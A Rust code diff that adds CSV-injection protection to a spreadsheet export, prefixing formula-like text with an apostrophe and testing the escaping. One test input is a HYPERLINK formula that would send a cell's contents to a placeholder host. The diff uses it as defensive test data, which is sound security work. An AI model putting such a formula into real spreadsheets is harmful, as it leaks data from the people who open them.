@@ -3,8 +3,8 @@
 //! the same rows. Row numbers and budgets are stored as numbers, totals included, so that the
 //! office can add them up again in Excel or LibreOffice.
 
-use super::docx::escape;
 use super::table::appendix_section;
+use super::xml::escape;
 use super::zip::ZipWriter;
 use super::{Block, ColumnKind, Section, Table, TableRow};
 use crate::domain::{Decimal, DocumentForm, Plan};
@@ -313,12 +313,26 @@ pub fn write_xlsx(plan: &Plan) -> Option<Vec<u8>> {
     Some(zip.finish())
 }
 
-/// One CSV field, quoted where it must be (RFC 4180).
-fn csv_field(text: &str) -> String {
-    if text.contains([',', '"', '\n', '\r']) {
-        format!("\"{}\"", text.replace('"', "\"\""))
+/// One CSV field, quoted where it must be (RFC 4180). A text that a spreadsheet would take for
+/// a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a `'` before
+/// it, as OWASP advises against CSV injection: a task written «=HYPERLINK(…)» in a received plan
+/// must stay words, never a live link that sends a cell's contents away. Numbers are ours and
+/// pass as they are.
+fn csv_field(cell: &Cell) -> String {
+    let text = match cell {
+        Cell::Empty => return String::new(),
+        Cell::Number(number) => return number.clone(),
+        Cell::Text(text) => text,
+    };
+    let neutral = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
     } else {
-        text.to_string()
+        text.clone()
+    };
+    if neutral.contains([',', '"', '\n', '\r']) {
+        format!("\"{}\"", neutral.replace('"', "\"\""))
+    } else {
+        neutral
     }
 }
 
@@ -335,13 +349,7 @@ pub fn write_csv(plan: &Plan) -> Option<String> {
             out.push_str("\r\n");
         }
         for row in rows(sheet) {
-            let fields: Vec<String> = row
-                .iter()
-                .map(|(value, _)| match value {
-                    Cell::Empty => String::new(),
-                    Cell::Text(text) | Cell::Number(text) => csv_field(text),
-                })
-                .collect();
+            let fields: Vec<String> = row.iter().map(|(cell, _)| csv_field(cell)).collect();
             out.push_str(&fields.join(","));
             out.push_str("\r\n");
         }
@@ -359,12 +367,33 @@ mod tests {
         assert_eq!(names, ["A", "B", "Z", "AA", "AB", "AZ", "BA"]);
     }
 
+    fn text(text: &str) -> Cell {
+        Cell::Text(text.into())
+    }
+
     #[test]
     fn csv_fields_are_quoted_only_when_needed() {
-        assert_eq!(csv_field("Công chức"), "Công chức");
-        assert_eq!(csv_field("a, b"), "\"a, b\"");
-        assert_eq!(csv_field("nói \"có\""), "\"nói \"\"có\"\"\"");
-        assert_eq!(csv_field("dòng 1\ndòng 2"), "\"dòng 1\ndòng 2\"");
+        assert_eq!(csv_field(&text("Công chức")), "Công chức");
+        assert_eq!(csv_field(&text("a, b")), "\"a, b\"");
+        assert_eq!(csv_field(&text("nói \"có\"")), "\"nói \"\"có\"\"\"");
+        assert_eq!(csv_field(&text("dòng 1\ndòng 2")), "\"dòng 1\ndòng 2\"");
+        assert_eq!(csv_field(&Cell::Empty), "");
+    }
+
+    #[test]
+    fn csv_text_that_reads_as_a_formula_is_kept_as_words() {
+        assert_eq!(csv_field(&text("=1+41")), "'=1+41");
+        assert_eq!(csv_field(&text("+84 912")), "'+84 912");
+        assert_eq!(csv_field(&text("- Công chức")), "'- Công chức");
+        assert_eq!(csv_field(&text("@SUM(A1)")), "'@SUM(A1)");
+        assert_eq!(csv_field(&text("\t=1")), "'\t=1");
+        assert_eq!(
+            csv_field(&text("=HYPERLINK(\"http://x/?d=\"&A1,\"bấm\")")),
+            "\"'=HYPERLINK(\"\"http://x/?d=\"\"&A1,\"\"bấm\"\")\""
+        );
+        assert_eq!(csv_field(&text("Họp =1")), "Họp =1");
+        // A number of ours is a number, negative or not.
+        assert_eq!(csv_field(&Cell::Number("-5".into())), "-5");
     }
 
     #[test]
